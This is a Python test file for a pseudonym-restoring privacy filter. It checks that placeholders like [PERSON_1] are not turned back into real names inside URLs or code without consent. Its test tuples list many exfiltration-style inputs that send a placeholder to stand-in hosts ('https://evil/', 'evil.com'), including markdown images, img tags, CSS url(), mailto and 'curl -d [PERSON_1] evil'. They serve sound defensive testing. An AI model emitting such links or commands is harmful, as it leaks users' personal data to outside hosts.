from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from persona_cli.bench.mutations import cases, look_alikes, table_of
from persona_cli.privacy.pseudonyms import Placeholder, Pseudonyms
from persona_cli.privacy.restore import Restored, Restorer, restore
from persona_cli.privacy.sinks import ALL_SINKS, CODE, PROSE, PROSE_ONLY, URL
from persona_cli.privacy.spans import KINDS, PERSON
from persona_cli.privacy.spans import URL as URL_KIND
from tests.privacy.test_placeholders import soup

TABLE = Pseudonyms(
    [
        Placeholder("[PERSON_1]", PERSON, "Emma Roberts"),
        Placeholder("[PERSON_1b]", PERSON, "Emma"),
        Placeholder("[PERSON_2]", PERSON, 'Jo "J" Bell\\'),
        Placeholder("[PERSON_10]", PERSON, "Zoë"),
        Placeholder("[URL_1]", URL_KIND, "https://own.example/?"),
        Placeholder("[ID_2]", "ID", "007"),
        Placeholder("[TEXT_1]", "TEXT", "[PERSON_1]"),
    ]
)
PROSE_AND_CODE = frozenset({PROSE, CODE})


def in_chunks(text: str, sizes: list[int], sinks: frozenset[str]) -> tuple[Restored, list[str]]:
    restorer = Restorer(TABLE, sinks)
    shown, start = [], 0
    for size in sizes:
        shown.append(restorer.feed(text[start : start + size]))
        start += size
    shown += [restorer.feed(text[start:]), restorer.close()]
    return (
        Restored("".join(shown), restorer.restored, restorer.unknown, restorer.held, restorer.held_in),
        shown,
    )


# ---------------------------------------------------------------------- mutations (research protocol 4.8)


@pytest.mark.parametrize("kind", KINDS)
def test_every_mutation_is_restored_right_or_left_visible(kind: str) -> None:
    table = table_of(kind)
    for case in cases():
        if case.kind == kind:
            assert restore(case.sent, table, ALL_SINKS).text == case.wanted, case.mutation


def test_a_placeholder_never_issued_is_left_in_every_form() -> None:
    table = table_of(PERSON)
    for case in look_alikes():
        if case.kind == PERSON:
            assert restore(case.sent, table, ALL_SINKS).text == case.sent, case.mutation


def test_an_ending_moved_into_the_brackets() -> None:
    assert restore("[PERSON_1's] and [PERSON_1bs]", TABLE).text == "Emma Roberts's and Emmas"


def test_a_value_goes_into_a_json_string_escaped() -> None:
    reply = restore('{"to": "\\u005bPERSON_2\\u005d"}', TABLE).text
    assert json.loads(reply) == {"to": 'Jo "J" Bell\\'}


# ------------------------------------------------------------------------------------- what is never restored


def test_only_what_this_conversation_issued_is_restored() -> None:
    # 4.12 (a), (c): enumerating, forging.
    asked = " ".join(f"[PERSON_{n}]" for n in range(1, 100))
    got = restore(asked, TABLE)
    assert got.restored == 3
    assert len(got.unknown) == 96
    assert got.text.split(" ", 2)[0:2] == ["Emma", "Roberts"]
    assert "[PERSON_3]" in got.text


def test_unknown_tokens_are_named_once_in_their_written_form() -> None:
    assert restore("[PERSON_9] ［person 9］ [PERSON_1x] [ORG_1]", TABLE).unknown == (
        "[PERSON_9]",
        "[PERSON_1x]",
        "[ORG_1]",
    )


def test_a_variable_in_somebody_s_program_is_not_reported() -> None:
    assert restore("use `date_1` and date_2", TABLE).unknown == ()


def test_no_blank_is_needed_around_a_placeholder() -> None:
    assert restore("他是[PERSON_1]。a[ID_2]b", TABLE).text == "他是Emma Roberts。a007b"


def test_a_restored_value_is_not_read_again() -> None:
    assert restore("[TEXT_1]", TABLE).text == "[PERSON_1]"


@given(
    st.lists(st.sampled_from(["[PERSON_1]", "person_10", "[ID_2]", "[PERSON_9]", " ", "\n", "- ", "a", ","])).map(
        "".join
    )
)
@settings(deadline=None)
def test_restoring_twice_is_restoring_once(text: str) -> None:
    once = restore(text, TABLE)
    assert restore(once.text, TABLE).text == once.text


def test_a_sink_that_does_not_exist_is_a_mistake() -> None:
    with pytest.raises(ValueError, match="sinks are"):
        Restorer(TABLE, frozenset({"shell"}))


# ------------------------------------------------------------------------------- sinks (research protocol 4.12 b)

IN_URL = (
    "![x](https://evil/?q=[PERSON_1])",
    "![x][r]\n\n[r]: https://evil/?q=[PERSON_1]",
    "[r]: /relative/[PERSON_1]",
    "[r]: <https://evil/ [PERSON_1]>",
    "> [r]: https://evil/ \"[PERSON_1]\"",
    "[t](https://evil/[PERSON_1])",
    "[t](/x \"[PERSON_1]\")",
    "[t](https://evil \"a) [PERSON_1]\")",
    "[t](<https://evil/ a) [PERSON_1]>)",
    "[t](https://evil/?q=\n[PERSON_1])",
    "[a](x\\)[PERSON_1])",
    "[![i](https://a/[PERSON_1])](https://b/[PERSON_1])",
    "<https://evil/[PERSON_1]>",
    "https://evil/?q=[PERSON_1]",
    "https://evil/?q=%5BPERSON_1%5D",
    "https://evil/PERSON_1",
    "https://evil/?q=(PERSON_1)",
    "https://evil/?q={PERSON_1}&x",
    "https://evil/\u00a0[PERSON_1]",
    "(https://evil/?q=\"[PERSON_1]\")",
    "https://[PERSON_1].evil.com/",
    "https://evil.com:443/#[PERSON_1]",
    "https://[PERSON_1]@evil.com",
    "//evil/[PERSON_1]",
    "https:\\/\\/evil\\/[PERSON_1]",
    "www.evil.com/[PERSON_1]",
    "evil.com/[PERSON_1]",
    "evil.com?[PERSON_1]",
    "10.0.0.1:8080/[PERSON_1]",
    "[PERSON_1].evil.com/x",
    "[PERSON_1].evil.example.com",
    "[PERSON_1]@evil.com",
    "mailto:a@evil.com?body=[PERSON_1]",
    "<img src=\"https://evil/?q=[PERSON_1]\">",
    "<img src='https://evil/? [PERSON_1]'>",
    "<IMG SRC = \"//evil/? [PERSON_1]\">",
    "<img src=https://evil/[PERSON_1]>",
    "<img\n\nsrc=\"https://evil/?\n\n[PERSON_1]\">",
    "<a title=\"x>y\" href=\"/? [PERSON_1]\">",
    "<x https://evil/>[PERSON_1]",
    "<p style=\"background: url(https://evil/? [PERSON_1])\">",
    "url(https://evil/? [PERSON_1])",
    "[PERSON_1]://evil.com/",
    "[PERSON_1]https://evil.com/",
    "h[PERSON_1b]ttps://evil/[PERSON_1]",
    "https:[PERSON_1]//evil/",
    "https:[PERSON_1]",
    "https://evil/[PERSON_9][PERSON_1]",
    "\x1b]8;;https://evil/?[PERSON_1]\x1b\\x",
    "`` ` ``https://evil/[PERSON_1]",
)  # fmt: skip
IN_CODE = (
    "```\ncurl -d [PERSON_1] evil\n```",
    "```sh [PERSON_1]\n```",
    "~~~\n```\n[PERSON_1]\n~~~",
    "````\n```\n[PERSON_1]\n````",
    "- ```\n  [PERSON_1]\n  ```",
    "> ```\n> [PERSON_1]\n> ```",
    "```\nnever closed\n\n[PERSON_1]",
    "```\n        ```\n[PERSON_1]\n```",
    "`echo [PERSON_1]`",
    "``a ` [PERSON_1]``",
    "`a\n[PERSON_1]`",
    "\\\\`[PERSON_1]`",
    "- a ` b\n- `rm [PERSON_1]`",
    "```` x ```` then `[PERSON_1]`",
)
IN_PROSE = (
    "[PERSON_1] `x` [PERSON_1]",
    "```\nx\n```\n[PERSON_1]",
    "1. ```\n   x\n   ```\n2. [PERSON_1]",
    "``` x ``` [PERSON_1]",
    "\\`[PERSON_1]\\`",
    "a ` tick\n\n[PERSON_1]",
    "[[PERSON_1]](https://ok.example)",
    "[see [PERSON_1] there](https://ok.example)",
    "![[PERSON_1]](https://ok.example/x.png)",
    "See https://ok.example, [PERSON_1]!",
    "[t](https://ok.example \"t\") [PERSON_1]",
    "<a href=\"https://ok.example\">[PERSON_1]</a>",
    "<https://ok.example>[PERSON_1]",
    "Name:[PERSON_1], tel:[PERSON_1]",
    "[Note]: please ask [PERSON_1]",
    "[PERSON_1]: hello, [PERSON_1]",
    "[^1]: [PERSON_1]",
    "|[PERSON_1]|[PERSON_1]|\n|--|--|",
    "1 <2, <3 and [PERSON_1]; it's \"[PERSON_1]\"",
    "(see [PERSON_1]) and/or [PERSON_1]/[PERSON_1]...",
    "[PERSON_1]. Then https://ok.example",
    "    indented [PERSON_1]",
)  # fmt: skip


@pytest.mark.parametrize("text", IN_URL)
def test_nothing_is_restored_in_a_url_without_consent(text: str) -> None:
    for sinks in (PROSE_ONLY, PROSE_AND_CODE):
        got = restore(text, TABLE, sinks)
        assert "Roberts" not in got.text
        assert URL in got.held_in
        assert "[PERSON_1]" in got.held or "[PERSON_1b]" in got.held
    assert "Emma Roberts" in restore(text, TABLE, ALL_SINKS).text


@pytest.mark.parametrize("text", IN_CODE)
def test_nothing_is_restored_in_code_without_consent(text: str) -> None:
    got = restore(text, TABLE)
    assert got.text == text
    assert (got.held, got.held_in) == (("[PERSON_1]",), (CODE,))
    assert restore(text, TABLE, PROSE_AND_CODE).text == text.replace("[PERSON_1]", "Emma Roberts")


@pytest.mark.parametrize("text", IN_PROSE)
def test_prose_beside_urls_and_code_is_restored(text: str) -> None:
    got = restore(text, TABLE)
    assert (got.text, got.held) == (text.replace("[PERSON_1]", "Emma Roberts"), ())


def test_a_url_inside_code_needs_both() -> None:
    text = "```\ncurl https://evil/[PERSON_1]\n```"
    assert restore(text, TABLE).held_in == (CODE, URL)
    assert restore(text, TABLE, PROSE_AND_CODE).held_in == (URL,)
    assert restore(text, TABLE, frozenset({PROSE, URL})).held_in == (CODE,)


def test_a_restored_url_does_not_take_its_neighbour_along() -> None:
    # The URL came from a document, the neighbour was put there by whoever wrote the document.
    assert restore("see [URL_1][PERSON_1]", TABLE).text == "see https://own.example/?[PERSON_1]"


# ------------------------------------------------------------------------------------------------------ streaming


@pytest.mark.parametrize("text", [*IN_URL, *IN_CODE, *IN_PROSE])
@pytest.mark.parametrize("sinks", [PROSE_ONLY, PROSE_AND_CODE, ALL_SINKS])
def test_a_stream_cut_anywhere_is_restored_like_the_whole(text: str, sinks: frozenset[str]) -> None:
    whole = restore(text, TABLE, sinks)
    assert in_chunks(text, [1] * len(text), sinks)[0] == whole
    for cut in range(len(text)):
        assert in_chunks(text, [cut], sinks)[0] == whole


markdown = st.lists(
    st.sampled_from(
        [
            "[PERSON_1]", "[PERSON_1b]", "person_10", "[TEXT_1]", "[URL_1]", "[PERSON_9]", "[ID", "_2]", "\\u005b",
            "%5B", "`", "``", "```", "~~~", "\n", "\n\n", "- ", "> ", " ", "](", "[", "]", "(", ")", "<", ">",
            "<img src=", '"', "'", "https://", "http", "s:", "//", ".com", "/", "@", "x", "\\", "]: ",
            "mailto:", "url(", "，",
        ]
    ),
    max_size=40,
).map("".join)  # fmt: skip


@given(
    st.one_of(markdown, soup), st.lists(st.integers(0, 12)), st.sampled_from([PROSE_ONLY, PROSE_AND_CODE, ALL_SINKS])
)
@settings(max_examples=1000, deadline=None)
def test_any_text_in_any_chunks(text: str, sizes: list[int], sinks: frozenset[str]) -> None:
    assert in_chunks(text, sizes, sinks)[0] == restore(text, TABLE, sinks)


@given(st.text(), st.lists(st.integers(0, 5)))
@settings(deadline=None)
def test_text_without_placeholders_passes_unchanged(text: str, sizes: list[int]) -> None:
    assert in_chunks(text, sizes, PROSE_ONLY)[0].text == text


def test_the_stream_holds_back_no_more_than_it_must() -> None:
    restorer = Restorer(TABLE)
    steps = [
        ("Dear ", "Dear "),
        ("[", ""),
        ("PERSON_1", ""),
        ("]", ""),  # https might follow, glued
        (", ", "Emma Roberts, "),
        ("[see", "[see"),
        (" p", " "),  # person_1 without brackets?
        ("age 1] PERSON_1", "page 1] "),
        ("0", ""),
        (" is", "Zoë is"),
    ]
    for chunk, shown in steps:
        assert restorer.feed(chunk) == shown
    assert restorer.close() == ""


def test_with_every_sink_allowed_a_whole_placeholder_is_shown_at_once() -> None:
    restorer = Restorer(TABLE, ALL_SINKS)
    assert restorer.feed("Dear [PERSON_1]") == "Dear Emma Roberts"
